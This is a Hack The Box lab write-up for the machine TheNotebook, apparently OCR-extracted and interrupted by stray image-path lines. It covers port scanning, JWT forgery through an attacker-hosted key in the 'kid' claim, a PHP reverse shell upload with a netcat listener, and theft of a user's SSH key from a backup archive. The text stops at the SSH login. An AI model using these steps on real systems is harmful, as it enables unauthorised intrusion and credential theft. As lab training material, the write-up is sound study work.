26th January 2022
Hack The Box Write-Up TheNotebook by T13nn3s

Hack The Box Write-Up TheNotebook –

A bug is never just a mistake. It represents something bigger. An error of thinking. That makes you who you are.

Elliot Alderson (Mr. Robot)

About TheNotebook

In this post, I’m writing a write-up for the machine TheNotebook from Hack The Box. Hack The Box is an online platform to train your ethical hacking skills and penetration testing skills

TheNotebook is a ‘Medium’ rated box. Grabbing and submitting the user.txt flag, your points will be raised by 15, and submitting the root flag your points will be raised by 30.

After the initial port scan with Nmap, we can discover two open ports. The first port is the default SSH port on 22/tcp. The second port is the default HTTP port 80/tcp. Through ffuf we learn that there is a http://thenotebook.hb/admin web directory, we need to try to access. After doing some enumeration on the website, we found thatthis website is using Json Web Tokens (JWT). After exploiting this token we can access the admin portal and upload arbitrary files. After uploading our PHP reverse shell payload we have a shell as the www-data user account.

From the user account www-data, we need to do a lateral movement to the user account noah. Through manual enumeration, we found in the directory /var/backups the archive home.tar.gz. After downloading and extracting this archive we have the SSH private key from the user noah and we are able to get an SSH shell as the user account noah and read the user flag.

The user account noah has the permissions to enter a Docker container with root privileges. After some research on the web, we found a Go implementation of a container escape in Docker. After downloading this exploit and modifying the payload to write our own public key to the authorized_keys of root, we were able to access this machine as root and own the system.

Machine Info

Hack The Box Write-Up TheNotebook by T13nn3s
Hack The Box Write-Up TheNotebook by T13nn3s
Hack The Box TheNotebook Machine IP and makers
Hack The Box TheNotebook Machine IP and Makers


Port scan

We start this machine with a port scan with Nmap.

~$ nmap -sS -sV -oA ./nmap/

The results.

Starting Nmap 7.90SVN ( https://nmap.org ) at 2021-04-05 20:49 CEST
Nmap scan report for
Host is up (0.042s latency).
Not shown: 997 closed ports
22/tcp    open     ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
80/tcp    open     http    nginx 1.14.0 (Ubuntu)
10010/tcp filtered rxapi
ServiceInfo: OS: Linux; CPE: cpe:/o:linux:linux_kernel
Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 9.82 seconds

The port scan discoverers two open ports. The first port is the default SSH port 22/tcp and the second port is the default HTTPport 80/tcp. So, this machine acts as a webserver. From the HTTP banner, we see that this machine is running Linux Ubuntu with Nginx 1.14.0 installed.

We know that there is a webserver running, so let’s directly initiate a directory brute-forcing with ffuf.

~$ ffuf -c -w ../../wordlists/wfuzz/general/big.txt -u

         /'___\  /'___\           /'___\
        /\ \__/ /\ \__/  __  __  /\ \__/
        \ \ ,__\\ \ ,__\/\ \/\ \ \ \ ,__\
         \ \ \_/ \ \ \_/\ \ \_\ \ \ \ \_/\ \_\   \ \_\  \ \____/  \ \_\
           \/_/    \/_/   \/___/    \/_/


 :: Method                  : GET
 :: URL                         :
 :: Wordlist                : FUZZ: ../../wordlists/wfuzz/general/big.txt
 :: Follow redirects : false
 :: Calibration           : false
 :: Timeout                : 10
 :: Threads                 : 40
 :: Matcher                : Response status:200,204,301,302,307,401,403

admin                   [Status: 403, Size: 9, Words: 1, Lines: 1]
login                   [Status: 200, Size: 1250, Words: 173, Lines: 31]
logout                  [Status: 302, Size: 209, Words: 22, Lines: 4]
register                [Status: 200, Size: 1422, Words: 193, Lines: 33]
:: Progress: [3024/3024] :: Job [1/1] :: 637 req/sec :: Duration: [0:00:05] :: Errors: 0 ::

Well, ffuf had found some interesting information. This website holds a login and a register page, for registering user accounts. There is also an admin panel on this website. Let’s start the enumeration of this website. Maybe we can get access to the admin panel.


Enumeration Webserver

Let’s start the enumeration of the website. We visit the URL, and we are ending up on this website.

Hack The Box TheNotebook website

As we already knew, we can register a user account through the Register button in the top navigation bar. We got redirected to the URL Let’s create a user account.

Username: T13nn3sPassword: Mypassword123
Email: [email protected]

We can also add the hostname thenotebook.htb to our hosts’ file.

Hack The Box TheNotebook register user

After adding the hostname to our hosts’ file and registered the user account, we can log in into the website. After logging in we end up on this webpage.

Hack The Box TheNotebook website login
Website after logging inFrom the Notes tab, we can create notes. I have tried multiple payloads in the Notes section to get Remote File Inclusion (LFI) and Remote Code Execution (RCE), but I was not able to find a vulnerability. It took me a while to find the vulnerability. Let’s intercept the traffic.

If we are using Burp Suite to intercept out requests, we can notice the authentication cookie. We can try to decode the whole cookie but that’s not gonna work. If we take a closer look at the cookie, we can see that the cookie is separated into various portions with a period (.).

Cookie: auth=eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiIsImtpZCI6Imh0dHA6Ly9sb2NhbGhvc3Q6NzA3MC9wcml2S2V5LmtleSJ9.eyJ1c2VybmFtZSI6IlQxM25uM3MiLCJlbWFpbCI6InQxM25uM3NAdGhlbm90ZWJvb2suaHRiIiwiYWRtaW5fY2FwIjowfQ.JUTUu2V_Z_d2a6RV5huODwvkDSR6_4kp5n8xp_-gL26VgA33Bmf94mqPcS2BxHjPPeZsTvTWcOmQ69l40t2VIJ5ekrTJmmXUduGaIKoI7DVlznHFFwHASSjdPRxJm-YqU1oFfigQNoHVm_hD0V1H9bOA5G3BFM0ssRfuMxOxR6gfn3QvICUDew4BX1j5NKAZBYS0S2PWoHJdwvjWtsgHi9Y_99k_rGENzdeFOOjZcVSGAakX_sE-EvlA4Q7jxH6d8KAOYilTjlyIdzBBxg9BMo0jipzJO3c1G3Zf7itvGYktLmCP19Z8F4CWC7KqbBJJ7xRuqnYr3Jnk9uATm9gp8ptq0dudkKEpPvoHIRtH11KJFiIzwdPQiH4jA4mD7-bbJHHcWI5FZkvxKPBt8eT8q-zv5mCdPjNR8AgEPzyyPXnUWaWNu_Ikm-fwJzOqjpJMfXH34wwHcVWqH82QqLL02Fl_FvngYo1x-I1JadlbMgo6yDNq9sMImx5fotyup0yUBM68AAjRLyTgHa4mOkuvCQQCtyM9sGxru1ITbkhutnbNk50QdD_nm32M7F2XALXvwhftdSlUnsDfaKBUMryeDyla7-n4rJ0e4r56MuNfBWJ047L3z_RodUKrFWUpy33j9Ylo7guD1_9v6Dvut8bAYM7YYsmOm8FV7ATUKg-fm3M; uuid=a463f2c1-3024-417e-9ec9-aa1453f87842


With Burp Suite, we can select the parts and try to decode them. At the first part we got a hit!

Hack The Box TheNotebook foothold
Decoding the first part of the authentication cookie
Encoded value:eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiIsImtpZCI6Imh0dHA6Ly9sb2NhbGhvc3Q6NzA3MC9wcml2S2V5LmtleSJ9.eyJ1c2VybmFtZSI6IlQxM25uM3MiLCJlbWFpbCI6InQxM25uM3NAdGhlbm90ZWJvb2suaHRiIiwiYWRtaW5fY2FwIjpmYWxzZX0.

Decoded value:
   "email":"[email protected]",

After decoding, we got a JSON Web Token (JWT) cookie. I did an Advent of CTF in 2020, and in this write-up, I’ve explained the basics of JWT. In the explanation in this write-up, I want to focus on the Private Key file, which has grabbed my attention. This JWT is using the kid claim. This claim is holding a file that is used for securing this JWT, this claim is optional. This claim is referring to a local file on the machine. What we can try to do, is to create our own key and place this key in a file named PrivKey.key and edit this claim http://localhost:7070/PrivKey.key to ( is the IP address of my attacker machine.

Through the website https://jwt.io/, we can try to create a new token with our own signature (the signature from the PrivKey.key) file and modify the current cookie with our created cookie. Let’s first generate our ow signature in a Private Key file and a Public Key file.

~$ ssh-keygen -t rsa -b 4096 -m PEM -f PrivKey.key -m PEM -f PrivKey.key
~$ openssl rsa -in PrivKey.key -pubout -outform PEM -out PrivKey.key.pub

We got now left with two files PrivKey.key which holds the private key and PrivKey.pub with the public key. We can modify thecookie to the following.

   "typ": "JWT",
   "alg": "RS256",
   "kid": ""
   "username": "T13nn3s",
   "email": "[email protected]",
   "admin_cap": true

Let’s fill in the JWT header and payload with the keys on the https://jwt.io/ website.

Hack The Box TheNotebook write-up JWT cookie exploitation

We have a valid cookie! We have first to start an HTTP server on port 7070 and place the PrivKey.key.pub in the root directory of our HTTP server. And, we need this website running so that the web server can do a re-authentication for every page we visit.

~$ python3 -m http.server 7070

We can now replace this current cookie with the cookie in our web browser and refresh the page. After refreshing the page we can access the admin panel through http://thenotebook.htb/admin.

Hack The Box TheNotebook admin panel

Reverse shell as www-data

As we can see in the admin panel, we can upload a file. We can download the php-reverse-shell.php from https://github.com/pentestmonkey/php-reverse-shell/blob/master/php-reverse-shell.php, and modify only these lines below.

$ip = '';  // CHANGE THIS
$port = 4444;       // CHANGE THIS

Let’s start a listener on port 4444 with netcat. After uploading an viewing the file, we got a reverse shell as the user www-data.

 ~$ Connection from
 Linux thenotebook 4.15.0-135-generic #139-Ubuntu SMP Mon Jan 18 17:38:24 UTC 2021 x86_64 x86_64 x86_64 GNU/Linux20:19:23 up  1:09,  0 users,  load average: 0.04, 0.02, 0.00
USER     TTY      FROM             [email protected]   IDLE   JCPU   PCPU WHAT
uid=33(www-data) gid=33(www-data) groups=33(www-data)
/bin/sh: 0: can't access tty; job control turned off
$ whoami

After pivoting around, we can find a second user account listed on this machine with the username noah.

Lateral Movement

From www-data to noah

Let’s first upgrade or shell to a fully interactive shell.

 $ python3 -c 'import pty; pty.spawn("/bin/bash")'
 [email protected]:/$

The enumeration script linpeas.sh, is not finding any interesting information. The current user account lacks the appropriate permissions. We have to pivot around manually. After some time searching, we can find an interesting file home.tar.gz in the location /var/backups. After downloading this file to our machine we can extract this archive, and wecan find the id_rsa, the private SSH key from the user account noah.

Let’s try to create an SSHsession.

~$ ssh [email protected] -i ./id_rsa
The authenticity of host 'thenotebook.htb (' can't be established.
ECDSA key fingerprint is SHA256:GHcgekaLnxmzAeBtBN8jWgd3DME3eniUb0l+PDmejDQ.
Are you sure you want to continue connecting (yes/no/[fingerprint])? yes
Warning: Permanently added 'thenotebook.htb,' (ECDSA) to the list of known hosts.
